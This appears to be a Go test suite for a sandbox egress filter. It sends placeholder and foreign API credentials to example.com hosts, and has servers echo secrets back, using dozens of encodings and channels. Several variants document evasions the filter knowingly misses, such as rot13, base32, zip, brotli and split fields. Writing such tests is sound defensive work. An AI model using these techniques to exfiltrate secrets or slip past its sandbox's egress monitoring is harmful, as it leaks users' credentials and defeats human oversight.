package egress

import (
	archive "archive/zip"
	"bytes"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"slices"
	"strings"

	"golang.org/x/net/dns/dnsmessage"
)

func dnsType(n uint16) dnsmessage.Type { return dnsmessage.Type(n) }

// hostileContent is what is sent to, or comes from, hosts that are allowed: credentials where they do not belong.
func hostileContent() []*class {
	return []*class{
		{name: "placeholders on their way to other hosts", policy: "inspect", hostile: true, variants: placeholderLeaks()},
		{name: "another's credential", policy: "api, push", hostile: true, variants: foreignCredentials()},
		{name: "secrets that a server sends back", policy: "push", hostile: true, variants: secretEchoes()},
	}
}

func reversed(s string) string {
	out := []byte(s)
	slices.Reverse(out)
	return string(out)
}

func rot13(s string) string {
	return strings.Map(func(c rune) rune {
		switch {
		case 'a' <= c && c <= 'z':
			return 'a' + (c-'a'+13)%26
		case 'A' <= c && c <= 'Z':
			return 'A' + (c-'A'+13)%26
		}
		return c
	}, s)
}

func zipped(text string) string {
	var out bytes.Buffer
	z := archive.NewWriter(&out)
	f, _ := z.Create("notes.txt")
	_, _ = io.WriteString(f, strings.Repeat("a line of no interest\n", 20)+text)
	_ = z.Close()
	return out.String()
}

// inBrotli is gitShown in a JSON text, as node's zlib.brotliCompressSync makes it; the standard library has no encoder.
const inBrotli = "G4wAAJwHtg1ru5NyYcefFJZ0U3sgc0v1eyZ2CkB1M2iy6PQV2ptTDpiiVvMkuhz0bvcYOxMyZMrqX5PmVz1oncw3siXEQvtcWDs/kfRi2N9X39QNAMQB"

func unbase64(s string) string {
	out, err := base64.StdEncoding.DecodeString(s)
	if err != nil {
		panic(err)
	}
	return string(out)
}

func placeholderLeaks() []variant {
	text := "config: " + gitShown + " end"
	pack := func() string {
		p := &testPack{}
		p.add(3, []byte(strings.Repeat("x ", 30)+gitShown))
		return string(p.bytes())
	}()
	// In a body: how it is written there, and in what.
	body := func(name, said string, header ...string) variant {
		return variant{name: name, make: func(r *rand.Rand, id string) trial {
			front := strings.Repeat("-", r.IntN(4000))
			if len(header) > 0 {
				front = ""
			}
			q := sending{method: "POST", url: any1(r, "https", "http") + "://web.example.com/" + id, body: []byte(front + said),
				header: header, version: 1 + r.IntN(2), proxied: r.IntN(2) == 0, chunked: r.IntN(2) == 0}
			return trial{id: id, harm: leaked(id, said), act: func(w *world) error { _, _, err := w.send(q); return err }}
		}}
	}
	head := func(name string, header func(id string) []string, path func(id string) string) variant {
		return posts(name, func(r *rand.Rand, id string) sending {
			return sending{url: any1(r, "https", "http") + "://web.example.com/" + path(id), header: header(id)}
		})
	}
	plainPath := func(id string) string { return id }
	noHeader := func(string) []string { return nil }
	halves := variant{name: "in two requests", wrong: "a half is not found", make: func(r *rand.Rand, id string) trial {
		return trial{id: id, harm: leaked(id, gitShown[20:]), act: func(w *world) error {
			_, _, _ = w.send(sending{method: "POST", url: "https://web.example.com/" + id, body: []byte(gitShown[:20])})
			_, _, err := w.send(sending{method: "POST", url: "https://web.example.com/" + id, body: []byte(gitShown[20:])})
			return err
		}}
	}}
	socket := variant{name: "in a WebSocket frame", make: func(r *rand.Rand, id string) trial {
		said := frame(wsText, [4]byte{byte(r.IntN(256)), 2, 3, byte(r.IntN(256))}, text)
		port := any1[uint16](r, 80, 443)
		return trial{id: id, harm: leaked(id, said), act: func(w *world) error {
			_, err := w.upgraded("web.example.com", port, "/"+id, said)
			return err
		}}
	}}
	tunnelled := variant{name: "in a tunnel",
		wrong: "what is said in a tunnel is not seen; the host's rule may say tls = \"inspect\"", make: func(r *rand.Rand,
			id string) trial {
			return trial{id: id, harm: leaked(id, text), act: func(w *world) error {
				_, _, err := w.send(sending{method: "POST", url: "https://docs.example.com/" + id, body: []byte(text)})
				return err
			}}
		}}
	trailer := variant{name: "in a trailer", make: func(r *rand.Rand, id string) trial {
		return trial{id: id, harm: func(seen []string) bool { // trailers stand in the bytes alone
			return slices.ContainsFunc(seen, func(s string) bool {
				return strings.HasPrefix(s, "bytes ") && strings.Contains(s, id) && strings.Contains(s, gitShown)
			})
		}, act: func(w *world) error {
			_, _, err := w.send(sending{method: "POST", url: "http://web.example.com/" + id, body: []byte("x"), chunked: true,
				trailer: http.Header{"X-T": {gitShown}}})
			return err
		}}
	}}
	wrapped := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("some text before it ", 5) + text))
	wrapped = wrapped[:76] + "\n" + wrapped[76:152] + "\n" + wrapped[152:]
	return []variant{
		body("as it is", text), body("in JSON", string(asJSON(object{"a": text})), "Content-Type", "application/json"),
		body("in base64", base64.StdEncoding.EncodeToString([]byte(text))), body("in the other base64",
			base64.RawURLEncoding.EncodeToString([]byte("x"+text))),
		body("in base64, in lines", wrapped), body("in base64 of base64",
			base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString([]byte(text))))),
		body("in hexadecimal", hex.EncodeToString([]byte(text))), body("in capital hexadecimal",
			strings.ToUpper(hex.EncodeToString([]byte(text)))),
		body("in escapes of URLs", percentAll(gitShown)), body("in escapes, twice", percentAll(percentAll(gitShown))),
		body("in escapes of JSON", eachByte(`\u%04x`, gitShown)), body("in octal escapes", eachByte(`\%03o`, gitShown)),
		body("in references of HTML", eachByte("&#%d;", gitShown)), body("in UTF-16", wide(gitShown, 0)),
		body("in base64 of UTF-16", base64.StdEncoding.EncodeToString([]byte(wide(gitShown, 0)))),
		body("in gzip", string(packed("gzip", text)), "Content-Encoding", "gzip"), body("in deflate", string(packed("zlib", text)),
			"Content-Encoding", "deflate"),
		body("in gzip of gzip", string(packed("gzip", string(packed("gzip", text)))), "Content-Encoding", "gzip, gzip"),
		body("behind much else", strings.Repeat("x", 256<<10)+gitShown), socket, trailer,
		head("in a header", func(id string) []string { return []string{"X-Data", gitShown} }, plainPath),
		head("in Authorization", func(id string) []string { return []string{"Authorization", "Bearer " + gitShown} }, plainPath),
		head("in a Basic pair", func(id string) []string { return []string{"Authorization", basic("x:" + gitShown)} }, plainPath),
		head("in a cookie, escaped", func(id string) []string { return []string{"Cookie", "a=" + percentAll(gitShown)} }, plainPath),
		head("in a header's name", func(id string) []string { return []string{"X-" + gitShown, "1"} }, plainPath),
		head("in the path", noHeader, func(id string) string { return id + "/" + gitShown }),
		head("in the query, in base64", noHeader,
			func(id string) string { return id + "?q=" + base64.RawURLEncoding.EncodeToString([]byte(text)) }),
		head("of another provider", func(id string) []string { return []string{"X-Api-Key", apiShown} }, plainPath),

		wrongly("br is not looked into, nor zstd", body("in br", unbase64(inBrotli), "Content-Encoding", "br")),
		wrongly("archives are not looked into", body("in a zip", zipped(text), "Content-Type", "application/zip")),
		wrongly("nothing says that it is gzip", body("in a .gz that is a file", string(packed("gzip", text)), "Content-Type",
			"application/octet-stream")),
		wrongly("packs are not looked into", body("in a pack of git", pack, "Content-Type", "application/octet-stream")),
		wrongly("an encoder that does not want to be understood", body("backwards", reversed(text))),
		wrongly("an encoder that does not want to be understood", body("in rot13", rot13(text))),
		wrongly("an encoder that does not want to be understood", body("with a blank behind each letter",
			strings.Join(strings.Split(gitShown, ""), " "))),
		wrongly("it is found twice deep, not three times", body("in escapes, three times",
			percentAll(percentAll(percentAll(gitShown))))),
		wrongly("base32 and quoted-printable are not read", body("in base32", base32.StdEncoding.EncodeToString([]byte(text)))),
		wrongly("base32 and quoted-printable are not read", body("in quoted-printable", eachByte("=%02X", gitShown))),
		wrongly("each field is looked at by itself", posts("in two fields", func(r *rand.Rand, id string) sending {
			return sending{url: "https://web.example.com/" + id, header: []string{"X-A", gitShown[:20], "X-B", gitShown[20:]}}
		})),
		halves, tunnelled,
	}
}

func foreignCredentials() []variant {
	key := func(id string) string { return "sk-ant-api03-" + id + strings.Repeat(id, 2) + "-AA" }
	claude := func(name string, head func(id string) []string, query func(id string) string) variant {
		return posts(name, func(r *rand.Rand, id string) sending {
			h := slices.DeleteFunc(claudeHead(false), func(string) bool { return false })
			if i := slices.Index(h, "X-Api-Key"); r.IntN(2) == 0 { // alone, or beside the session's own
				h = slices.Delete(h, i, i+2)
			}
			b := claudeBody(r, "")
			b["messages"] = []object{{"role": "user", "content": "x"}}
			return sending{method: "POST", url: "https://api.anthropic.com/v1/messages" + query(id), header: append(h, head(id)...),
				body: asJSON(b)}
		})
	}
	none := func(string) string { return "" }
	nothing := func(string) []string { return nil }
	at := func(names ...string) func(id string) []string {
		return func(id string) []string { return []string{names[int(id[0])%len(names)], key(id)} }
	}
	return []variant{
		claude("in the key's own field", at("X-Api-Key", "x-api-key", "X_api_key"), none),
		claude("in Authorization", func(id string) []string {
			return []string{"Authorization", any1Of(id, "Bearer ", "bearer  ", "", "token ") + key(id)}
		}, none),
		claude("in Authorization, beside the placeholder", func(id string) []string {
			return []string{"Authorization",
				"Bearer " + apiShown + ", " + key(id)}
		}, none),
		claude("in another field of the kind", at("Api-Key", "X-Auth-Token", "X-Goog-Api-Key", "Proxy-Authorization",
			"X-Amz-Security-Token"), none),
		claude("in a field that says nothing", at("X-Data", "Referer", "Accept-Language"), none),
		claude("in the query", nothing, func(id string) string {
			return "?" + any1Of(id, "key=", "api_key=", "access_token=", "a=1;token=", "%6bey=", "q=") + key(id)
		}),
		posts("of Gemini, in the query", func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: "https://generativelanguage.googleapis.com/v1beta/models/gemini-2.5-pro:generateContent?" + any1(r, "key=", "$key=", "access_token=", "oauth_token=") + "AIza" + id + id,
				header: []string{"Content-Type", "application/json"}, body: []byte(`{"contents":[]}`)}
		}),
		posts("of OpenAI", func(r *rand.Rand, id string) sending {
			return sending{url: "https://api.openai.com/v1/models", header: []string{"Authorization", "Bearer sk-proj-" + id + id,
				"Openai-Organization", "org-" + id}}
		}),
		posts("of git, in a Basic pair", func(r *rand.Rand, id string) sending {
			return sending{url: "https://code.example.com/" + any1(r, "a", "b") + "/info/refs?service=git-upload-pack&" + id,
				header: []string{"Authorization", basic(any1(r, "x-access-token:ghp_"+id+id+"abcd", id+":"+gitShown, gitShown+":"+id))}}
		}),
		claude("in a cookie", func(id string) []string { return []string{"Cookie", "session=" + id} }, none),
		wrongly("neither the name nor the look of it says that it is a credential",
			claude("an opaque one in a field that a server made up", func(id string) []string { return []string{"X-Tenant", id} }, none)),
		wrongly("a login is the account's owner's; the rule's paths may shut it out", posts("a session's number in the path",
			func(r *rand.Rand, id string) sending {
				return sending{url: "https://code.example.com/s/" + id + "/page"}
			})),
	}
}

// any1Of chooses by the id.
func any1Of(id string, list ...string) string { return list[int(id[1])%len(list)] }

func secretEchoes() []variant {
	// The server says its own value, in some writing; harm is that this reaches the jail.
	echo := func(name string, said func() string, write func(w http.ResponseWriter, said string)) variant {
		return variant{name: name, make: func(r *rand.Rand, id string) trial {
			text := said()
			version := 1 + r.IntN(2)
			return trial{id: id, harm: arrived(id, text), act: func(w *world) error {
				w.reply(id, func(rw http.ResponseWriter, _ *http.Request) { write(rw, text) })
				_, got, err := w.send(sending{version: version, url: "https://code.example.com/" + id, method: "GET",
					header: []string{"Authorization", "Bearer " + gitShown}})
				w.note("client " + id + "\n" + got)
				return err
			}}
		}}
	}
	body := func(w http.ResponseWriter, said string) { _, _ = io.WriteString(w, "<"+said+">") }
	is := func(s string) func() string { return func() string { return s } }
	coded := func(how, name string) func(w http.ResponseWriter, said string) {
		return func(w http.ResponseWriter, said string) {
			w.Header().Set("Content-Encoding", name)
			_, _ = w.Write(packed(how, said))
		}
	}
	pieces := func(w http.ResponseWriter, said string) {
		for _, c := range said {
			_, _ = fmt.Fprintf(w, "%c", c)
			_ = http.NewResponseController(w).Flush()
		}
	}
	compressed := echo("in gzip", is(gitReal), coded("gzip", "gzip"))
	make1 := compressed.make
	compressed.make = func(r *rand.Rand, id string) trial { // the client of the control gets it as it is
		tr := make1(r, id)
		plain, asIs := tr.harm, arrived(id, string(packed("gzip", gitReal)))
		tr.harm = func(seen []string) bool { return plain(seen) || asIs(seen) }
		return tr
	}
	br := echo("in an encoding that the door cannot read", is(unbase64(inBrotli)), func(w http.ResponseWriter, said string) {
		w.Header().Set("Content-Encoding", "br")
		_, _ = io.WriteString(w, said)
	})
	unasked := variant{name: "in br, to a request without the secret",
		wrong: "what cannot be read is refused only when the request carried the secret",
		make: func(r *rand.Rand, id string) trial {
			text := unbase64(inBrotli)
			return trial{id: id, harm: arrived(id, text), act: func(w *world) error {
				w.reply(id, func(rw http.ResponseWriter, _ *http.Request) {
					rw.Header().Set("Content-Encoding", "br")
					_, _ = io.WriteString(rw, text)
				})
				_, got, err := w.send(sending{url: "https://code.example.com/" + id, method: "GET"})
				w.note("client " + id + "\n" + got)
				return err
			}}
		}}
	socket := variant{name: "in a WebSocket frame", make: func(r *rand.Rand, id string) trial {
		return trial{id: id, harm: arrived(id, gitReal), act: func(w *world) error {
			w.reply(id, func(rw http.ResponseWriter, _ *http.Request) {
				c, _, err := http.NewResponseController(rw).Hijack()
				if err == nil {
					_, _ = io.WriteString(c, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"+said(wsMore, gitReal[:9])+said(wsLast, gitReal[9:])+said(wsText, gitReal))
					_ = c.Close()
				}
			})
			got, err := w.upgraded("code.example.com", 443, "/"+id, "", "Authorization: Bearer "+gitShown+"\r\n")
			w.note("client " + id + "\n" + got)
			return err
		}}
	}}
	halves := variant{name: "in two answers", wrong: "a half is not recognised", make: func(r *rand.Rand, id string) trial {
		return trial{id: id, harm: arrived(id, gitReal[20:]), act: func(w *world) (err error) {
			for i, said := range []string{gitReal[:20], gitReal[20:]} {
				part := fmt.Sprint(id, "/", i)
				w.reply(part, func(rw http.ResponseWriter, _ *http.Request) { body(rw, said) })
				_, got, e := w.send(sending{url: "https://code.example.com/" + part, method: "GET", header: []string{"Authorization",
					"Bearer " + gitShown}})
				w.note("client " + id + "\n" + got)
				err = e
			}
			return err
		}}
	}}
	return []variant{
		echo("as it is", is(gitReal), body), echo("in JSON", is(string(asJSON(object{"token": gitReal}))), body),
		echo("byte by byte", is(gitReal), pieces),
		echo("in base64", is(base64.StdEncoding.EncodeToString([]byte(gitReal))), body), echo("in base64 of a pair",
			is(basic("x:"+gitReal)), body),
		echo("in hexadecimal", is(hex.EncodeToString([]byte(gitReal))), body), echo("in escapes of URLs", is(percentAll(gitReal)),
			body),
		echo("in octal escapes", is(eachByte(`\%03o`, gitReal)), body),
		echo("in base64 with line ends", is(inLines(base64.StdEncoding.EncodeToString([]byte(strings.Repeat("u", 40)+gitReal)), 76, "\n")), body),
		echo("in escapes of JSON", is(eachByte(`\u%04x`, gitReal)), body), echo("in references of HTML", is(eachByte("&#%d;",
			gitReal)), body), echo("in UTF-16", is(wide(gitReal, 0)), body),
		echo("in a header", is(gitReal), func(w http.ResponseWriter, said string) { w.Header().Set("X-Token", said) }),
		echo("in a redirect", is(gitReal), func(w http.ResponseWriter, said string) {
			w.Header().Set("Location", "/?token="+said)
			w.WriteHeader(http.StatusFound)
		}),
		echo("in a header's name", is(gitReal), func(w http.ResponseWriter, said string) { w.Header()[said] = []string{"1"} }),
		echo("behind much else", is(gitReal), func(w http.ResponseWriter, said string) { body(w, strings.Repeat("a", 256<<10)+said) }),
		compressed, br, socket,
		wrongly("a value is not recognised when its server has hidden it", echo("backwards", is(reversed(gitReal)), body)),
		wrongly("a value is not recognised when its server has hidden it", echo("in rot13", is(rot13(gitReal)), body)),
		wrongly("base64 of base64 is looked for on the way out alone", echo("in base64 of base64",
			is(base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString([]byte(gitReal))))), body)),
		wrongly("archives are not looked into", echo("in a zip", is(zipped(gitReal)), body)),
		unasked, halves,
	}
}
